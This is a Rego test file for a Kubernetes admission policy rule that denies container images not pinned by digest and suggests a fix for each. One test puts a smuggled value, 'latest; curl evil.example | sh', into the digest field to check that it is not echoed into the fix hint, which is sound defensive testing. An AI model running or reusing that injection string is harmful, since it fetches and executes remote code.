package deployguard_test.digest_pinning

import data.deployguard_test.fixtures
import rego.v1

_decision(change_type, images) := d if {
	inp := fixtures.request(change_type, images)
	d := fixtures.decide(fixtures.config) with input as inp
}

_denied(change_type, images) := fixtures.of_rule(_decision(change_type, images).deny, "digest_pinning")

test_explicit_latest_is_denied if {
	_denied("create", [fixtures.nginx_latest]) == [{
		"rule": "digest_pinning",
		"message": `container "web" image "nginx:latest" is not pinned by digest (":latest" moves whenever a new image is pushed)`,
		"fix": "pin it as docker.io/library/nginx:latest@sha256:<digest>; find the digest with: crane digest docker.io/library/nginx:latest",
	}]
}

test_implicit_latest_is_denied if {
	img := fixtures.image({
		"container": "web", "image": "nginx",
		"registry": "docker.io", "repository": "library/nginx", "tag": "latest", "digest": "",
	})
	_denied("create", [img]) == [{
		"rule": "digest_pinning",
		"message": `container "web" image "nginx" is not pinned by digest (no tag means ":latest", which moves whenever a new image is pushed)`,
		"fix": "pin it as docker.io/library/nginx:latest@sha256:<digest>; find the digest with: crane digest docker.io/library/nginx:latest",
	}]
}

test_version_tag_is_denied if {
	img := fixtures.image({
		"container": "api", "image": "ghcr.io/acme/api:1.4.2",
		"registry": "ghcr.io", "repository": "acme/api", "tag": "1.4.2", "digest": "",
	})
	_denied("rollout", [img]) == [{
		"rule": "digest_pinning",
		"message": `container "api" image "ghcr.io/acme/api:1.4.2" is not pinned by digest (tag "1.4.2" can be pushed again and then names a different image)`,
		"fix": "pin it as ghcr.io/acme/api:1.4.2@sha256:<digest>; find the digest with: crane digest ghcr.io/acme/api:1.4.2",
	}]
}

test_pinned_by_digest_is_allowed if {
	_decision("create", [fixtures.nginx_pinned]) == fixtures.empty_decision
}

test_digest_without_tag_is_allowed if {
	img := fixtures.image({
		"container": "web", "image": "nginx@sha256:4c2e7c1a8f8e7b1f0a2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1",
		"registry": "docker.io", "repository": "library/nginx", "tag": "", "digest": fixtures.sample_digest,
	})
	_decision("create", [img]) == fixtures.empty_decision
}

test_init_and_ephemeral_containers_are_checked if {
	migrate := fixtures.image({
		"container": "migrate", "image": "ghcr.io/acme/migrate:2",
		"registry": "ghcr.io", "repository": "acme/migrate", "tag": "2", "digest": "",
	})
	debug := fixtures.image({
		"container": "debug", "image": "busybox:latest",
		"registry": "docker.io", "repository": "library/busybox", "tag": "latest", "digest": "",
	})
	images := [
		fixtures.nginx_pinned,
		fixtures.as_type(migrate, "initContainer"),
		fixtures.as_type(debug, "ephemeralContainer"),
	]
	[f.message | some f in _denied("rollout", images)] == [
		`ephemeral container "debug" image "busybox:latest" is not pinned by digest (":latest" moves whenever a new image is pushed)`,
		`init container "migrate" image "ghcr.io/acme/migrate:2" is not pinned by digest (tag "2" can be pushed again and then names a different image)`,
	]
}

test_every_unpinned_image_is_reported if {
	a := fixtures.image({
		"container": "a", "image": "nginx:1.27",
		"registry": "docker.io", "repository": "library/nginx", "tag": "1.27", "digest": "",
	})
	b := fixtures.image({
		"container": "b", "image": "redis:7",
		"registry": "docker.io", "repository": "library/redis", "tag": "7", "digest": "",
	})
	count(_denied("create", [a, fixtures.nginx_pinned, b])) == 2
}

test_resolved_digest_gives_the_exact_reference if {
	img := fixtures.with_resolved_digest(fixtures.nginx_latest, {"digest": fixtures.sample_digest})
	[f.fix | some f in _denied("create", [img])] == [
		"pin it as docker.io/library/nginx@sha256:4c2e7c1a8f8e7b1f0a2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1 (what docker.io/library/nginx:latest points to now)",
	]
}

test_empty_resolved_digest_gives_the_lookup_hint if {
	img := fixtures.with_resolved_digest(fixtures.nginx_latest, {"digest": ""})
	[f.fix | some f in _denied("create", [img])] == [
		"pin it as docker.io/library/nginx:latest@sha256:<digest>; find the digest with: crane digest docker.io/library/nginx:latest",
	]
}

test_malformed_resolved_digest_is_not_echoed if {
	img := fixtures.with_resolved_digest(fixtures.nginx_latest, {"digest": "latest; curl evil.example | sh"})
	[f.fix | some f in _denied("create", [img])] == [
		"pin it as docker.io/library/nginx:latest@sha256:<digest>; find the digest with: crane digest docker.io/library/nginx:latest",
	]
}

test_allowed_unpinned_repository_may_run_by_tag if {
	busybox := fixtures.image({
		"container": "tools", "image": "busybox:1.36",
		"registry": "docker.io", "repository": "library/busybox", "tag": "1.36", "digest": "",
	})
	inp := fixtures.request("create", [busybox, fixtures.nginx_latest])
	cfg := {"digest_pinning": {"allowed_unpinned": ["docker.io/library/busybox"]}}
	d := fixtures.decide(cfg) with input as inp
	[f.message | some f in fixtures.of_rule(d.deny, "digest_pinning")] == [
		`container "web" image "nginx:latest" is not pinned by digest (":latest" moves whenever a new image is pushed)`,
	]
}

test_allowed_unpinned_is_an_exact_repository_name if {
	others := [
		fixtures.image({
			"container": "a", "image": "busybox-extra:1",
			"registry": "docker.io", "repository": "library/busybox-extra", "tag": "1", "digest": "",
		}),
		fixtures.image({
			"container": "b", "image": "ghcr.io/library/busybox:1",
			"registry": "ghcr.io", "repository": "library/busybox", "tag": "1", "digest": "",
		}),
		fixtures.image({
			"container": "c", "image": "busybox/tools:1",
			"registry": "docker.io", "repository": "busybox/tools", "tag": "1", "digest": "",
		}),
	]
	inp := fixtures.request("create", others)
	cfg := {"digest_pinning": {"allowed_unpinned": ["docker.io/library/busybox"]}}
	d := fixtures.decide(cfg) with input as inp
	count(fixtures.of_rule(d.deny, "digest_pinning")) == 3
}

test_invalid_reference_is_left_to_image_reference if {
	bad := fixtures.invalid_image({
		"container": "web", "image": "Nginx:latest",
		"error": "repository 'Nginx' must be lower-case",
	})
	_denied("create", [bad]) == []
}

test_delete_is_not_judged if {
	# On DELETE the webhook sends no images; even if it did, nothing is judged.
	_decision("delete", [fixtures.nginx_latest]) == fixtures.empty_decision
}

test_rollout_is_judged if {
	count(_denied("rollout", [fixtures.nginx_latest])) == 1
}

test_changes_that_start_no_new_pods_are_not_judged if {
	# A scale runs images admitted before: an incident scale-up is never blocked by them.
	every change_type in ["scale", "metadata-only", "update", "no-op", "replica"] {
		_denied(change_type, [fixtures.nginx_latest]) == []
	}
}

test_incomplete_image_entry_still_denied if {
	# If the webhook's input drifts from the contract, the rule must not switch itself off.
	img := {"image": "nginx:latest", "ref": {"valid": true, "pinned": false, "tag": "latest", "name": "docker.io/library/nginx"}}
	[f.message | some f in _denied("create", [img])] == [
		`container "" image "nginx:latest" is not pinned by digest (":latest" moves whenever a new image is pushed)`,
	]
}

test_resolved_digest_from_the_images_fact if {
	facts := {"images": {"status": "ok", "by_image": {"nginx:latest": {"status": "ok", "resolved_digest": fixtures.sample_digest, "policies": []}}}}
	inp := object.union(fixtures.request("create", [fixtures.nginx_latest]), {"facts": facts})
	d := fixtures.decide(fixtures.config) with input as inp
	[f.fix | some f in fixtures.of_rule(d.deny, "digest_pinning")] == [
		"pin it as docker.io/library/nginx@sha256:4c2e7c1a8f8e7b1f0a2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1 (what docker.io/library/nginx:latest points to now)",
	]
}
